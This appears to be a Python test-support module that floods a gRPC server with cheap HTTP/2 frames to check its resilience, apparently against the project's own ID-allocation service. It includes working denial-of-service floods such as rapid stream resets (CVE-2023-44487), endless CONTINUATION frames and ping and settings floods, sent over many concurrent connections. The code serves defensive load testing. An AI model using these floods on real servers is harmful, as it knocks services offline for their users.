"""Floods of HTTP/2 frames that cost a client less than a server; see ``attacks.py``."""

import socket
import ssl
import struct
import time
from collections import Counter
from collections.abc import Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from itertools import count
from select import select
from typing import Any

from idalloc.v1 import id_allocator_pb2 as pb
from tests.support import http2

ORDERS = pb.AllocateRangeRequest(sequence="flooded").SerializeToString()
WRONG_TOKEN = [("authorization", "Bearer " + "x" * 43)]
# Turns per write.
BATCH = 100
# HTTP/2 error code CANCEL: the client no longer needs the stream.
CANCEL = 8
# How long a flood waits for a server that neither reads nor writes, in seconds.
PATIENCE = 10
_WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


class FrameBatches:
    """Endless batches of the same frames.

    Args:
        frames: The frames of one turn, with stream id 1.
        opening: Frames before the first turn.
        renumber: Whether each turn gets its own stream id.
    """

    def __init__(self, *frames: bytes, opening: bytes = b"", renumber: bool = True) -> None:
        self._frames = frames
        self._opening = opening
        self._renumber = renumber

    def __iter__(self) -> Iterator[bytes]:
        yield self._opening
        streams = count(1, 2)
        batch = b"".join(self._frames) * BATCH
        while True:
            if self._renumber:
                numbers = (struct.pack(">I", next(streams)) for _ in range(BATCH))
                batch = b"".join(each[:5] + number + each[9:] for number in numbers for each in self._frames)
            yield batch


def _call(method: str = "AllocateRange", request: bytes = ORDERS, **how: Any) -> tuple[bytes, bytes]:
    return http2.headers(1, method, **how), http2.message(1, request)


def _without_end(headers: bytes) -> bytes:
    return headers[:4] + bytes([headers[4] & ~http2.END_HEADERS]) + headers[5:]


def _repeated_on_a_call(frame: bytes) -> FrameBatches:
    return FrameBatches(frame, opening=http2.headers(1, "AllocateRange"), renumber=False)


_RESET = http2.frame(http2.RST_STREAM, 0, 1, struct.pack(">I", CANCEL))
FLOODS: dict[str, Iterable[bytes]] = {
    # CVE-2023-44487: each stream is reset right after its HEADERS.
    "rapid_resets": FrameBatches(http2.headers(1, "AllocateRange"), _RESET),
    "resets_of_calls": FrameBatches(*_call(), _RESET),
    "calls": FrameBatches(*_call()),
    "rejected_calls": FrameBatches(*_call(metadata=WRONG_TOKEN)),
    "rejected_streams": FrameBatches(*_call("StreamRanges", metadata=WRONG_TOKEN)),
    "unknown_methods": FrameBatches(*_call(service="/no.such.Service/")),
    "health_checks": FrameBatches(*_call("Check", b"", service="/grpc.health.v1.Health/")),
    "pings": FrameBatches(http2.frame(http2.PING, 0, 0, bytes(8)), renumber=False),
    "settings": FrameBatches(http2.settings(65_535), renumber=False),
    # A header block of small frames that never ends.
    "continuations": FrameBatches(
        http2.frame(http2.CONTINUATION, 0, 1, b"\x00\x01x\x01v"),
        opening=_without_end(http2.headers(1, "AllocateRange")),
        renumber=False,
    ),
    "empty_data": _repeated_on_a_call(http2.frame(http2.DATA, 0, 1)),
    "window_updates": _repeated_on_a_call(http2.frame(http2.WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
}


def flood(
    target: str,
    number: int,
    seconds: float,
    concurrency: int,
    kind: str,
    tls: ssl.SSLContext | None = None,
    **_others: Any,
) -> Counter[str]:
    """Flood on ``concurrency`` connections for ``seconds``; reopen each that the server closes.

    Args:
        target: The server's address.
        number: Most connections that are opened in turn.
        seconds: Duration of the flood.
        concurrency: Connections at a time.
        kind: A key of ``FLOODS``.
        tls: The client's context; by default connections have no TLS.

    Returns:
        Turns sent, bytes received, and connections opened and closed by the server.
    """
    deadline = time.monotonic() + seconds

    def on_one_connection(_: int) -> Counter[str]:
        seen = Counter[str]()
        while time.monotonic() < deadline and seen["connections"] < number:
            seen["connections"] += 1
            try:
                with http2.connect(target, 2**31 - 1, tls) as connection:
                    seen += _send(connection, FLOODS[kind], deadline)
            except OSError:
                seen["hung up"] += 1
        return seen

    with ThreadPoolExecutor(concurrency) as pool:
        return sum(pool.map(on_one_connection, range(concurrency)), Counter())


def _send(connection: socket.socket, batches: Iterable[bytes], deadline: float) -> Counter[str]:
    seen = Counter[str]()
    connection.settimeout(PATIENCE)
    try:
        connection.sendall(http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535)))
        connection.setblocking(False)
        for batch in batches:
            left = memoryview(batch)
            while left:
                seen["bytes"] += _drain(connection)
                try:
                    left = left[connection.send(left) :]
                except _WOULD_BLOCK:
                    if not any(select([connection], [connection], [], PATIENCE)):
                        raise TimeoutError("the server neither reads nor writes") from None
            seen["sent"] += BATCH
            if time.monotonic() > deadline:
                break
    except OSError:
        seen["hung up"] += 1
    return seen


def _drain(connection: socket.socket) -> int:
    """Read what has arrived; return the number of bytes."""
    size = 0
    try:
        while data := connection.recv(1 << 20):
            size += len(data)
    except _WOULD_BLOCK:
        return size
    raise ConnectionResetError("the server closed the connection")
